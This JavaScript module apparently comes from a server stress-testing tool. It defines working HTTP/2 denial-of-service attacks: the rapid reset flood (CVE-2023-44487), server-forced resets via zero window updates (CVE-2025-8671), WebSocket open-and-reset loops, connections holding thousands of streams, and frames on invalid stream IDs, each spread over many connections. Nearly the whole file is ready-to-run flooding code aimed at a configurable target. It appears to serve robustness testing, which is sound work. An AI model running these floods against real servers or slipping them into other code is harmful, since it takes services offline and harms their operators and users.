/** Streams of HTTP/2 that are opened without end, and closed again by whoever it costs least. */
import { frame, opcode } from "../wire/frames.js";
import { CANCEL, connectBlock, connectFrame, flag, frameType, http2Frame, uint32 } from "../wire/http2.js";
import { describeTally, http2Crowd } from "../wire/http2-crowd.js";

/** @typedef {import("../attack.js").Attack} Attack */
/** @typedef {import("../attack.js").AttackContext} AttackContext */

/** Streams whose frames are written at once. */
const TOGETHER = 50;

/** Opens streams on all connections, each with the same frames behind it, and begins anew where the server has had enough.
 * @param {AttackContext} context
 * @param {(streamId: number) => Buffer} frameBehind what follows the HEADERS that open a stream */
async function churn(context, frameBehind) {
  const { target, signal } = context;
  const block = connectBlock(target);
  const streamFrames = (/** @type {number} */ streamId) =>
    Buffer.concat([http2Frame(frameType.headers, flag.endHeaders, streamId, block), frameBehind(streamId)]);
  let streams = 0;
  const tally = await http2Crowd(
    context,
    async (peer) => {
      for (let streamId = 1; streamId < 2 ** 31; streamId += 2 * TOGETHER) {
        const many = Array.from({ length: TOGETHER }, (_, index) => streamFrames(streamId + 2 * index));
        if (!(await peer.write(Buffer.concat(many), signal))) return;
        streams += TOGETHER;
        // The turn is over even where the system takes everything at once, so that an end is seen
        await new Promise(setImmediate);
      }
    },
    { again: true },
  );
  return { seen: `${streams.toLocaleString("en")} streams on ${describeTally(tally)}` };
}

/** @type {Attack} */
export const rapidReset = {
  name: "HTTP/2 rapid reset: streams opened and reset in one breath",
  sources: ["CVE-2023-44487", "budget: openings of an HTTP/2 connection"],
  ...{ over: ["2.0"], connections: 10 },
  run(context) {
    return churn(context, (streamId) => http2Frame(frameType.resetStream, flag.none, streamId, CANCEL));
  },
};

/** @type {Attack} */
export const resetByServer = {
  name: "HTTP/2 streams that the server itself must reset, for a window increment of 0",
  sources: ["CVE-2025-8671", "budget: openings of an HTTP/2 connection"],
  ...{ over: ["2.0"], connections: 10 },
  run(context) {
    return churn(context, (streamId) => http2Frame(frameType.windowUpdate, flag.none, streamId, uint32(0)));
  },
};

/** @type {Attack} */
export const openAndReset = {
  name: "HTTP/2 WebSockets opened, used once and reset, in a loop",
  sources: ["CVE-2023-44487", "budget: openings of an HTTP/2 connection"],
  ...{ over: ["2.0"], connections: 10 },
  async run(context) {
    const { signal, target } = context;
    const message = frame({ opcode: opcode.text, payload: "in passing" });
    const tally = await http2Crowd(
      context,
      async (peer) => {
        for (let streamId = 1; !peer.isOver && !signal.aborted; streamId += 2) {
          await peer.connect(target, streamId, signal);
          const data = http2Frame(frameType.data, flag.none, streamId, message);
          const reset = http2Frame(frameType.resetStream, flag.none, streamId, CANCEL);
          await peer.write(Buffer.concat([data, reset]), signal);
        }
      },
      { again: true },
    );
    return { seen: describeTally(tally) };
  },
};

/** @type {Attack} */
export const manyStreams = {
  name: "HTTP/2 connections that open 2,000 WebSockets each and keep them",
  sources: ["budget: streams of an HTTP/2 connection", "budget: connections"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal, target } = context;
    const tally = await http2Crowd(context, async (peer) => {
      for (let streamId = 1; streamId < 4000 && !peer.isOver; streamId += 2)
        if (!(await peer.write(connectFrame(target, streamId), signal))) break;
      await peer.over(signal);
    });
    return { seen: describeTally(tally) };
  },
};

/** @type {Attack} */
export const badStreams = {
  name: "HTTP/2 frames on streams that are idle, reset, even, or 0",
  sources: ["RFC 9113 §5.1"],
  ...{ over: ["2.0"], connections: 60 },
  async run(context) {
    const { signal, target } = context;
    const message = frame({ opcode: opcode.text, payload: "lost" });
    const places = [0, 1, 2, 9, 2 ** 31 - 1];
    const tally = await http2Crowd(
      context,
      async (peer, index) => {
        await peer.connect(target, 1, signal);
        await peer.write(http2Frame(frameType.resetStream, flag.none, 1, CANCEL), signal);
        const place = places[index % places.length] ?? 0;
        const type = [frameType.data, frameType.headers, frameType.windowUpdate][index % 3] ?? 0;
        await peer.write(http2Frame(type, flag.endHeaders, place, message), signal);
        const patience = AbortSignal.any([signal, AbortSignal.timeout(500)]);
        await peer.over(patience);
      },
      { again: true },
    );
    return { seen: describeTally(tally) };
  },
};
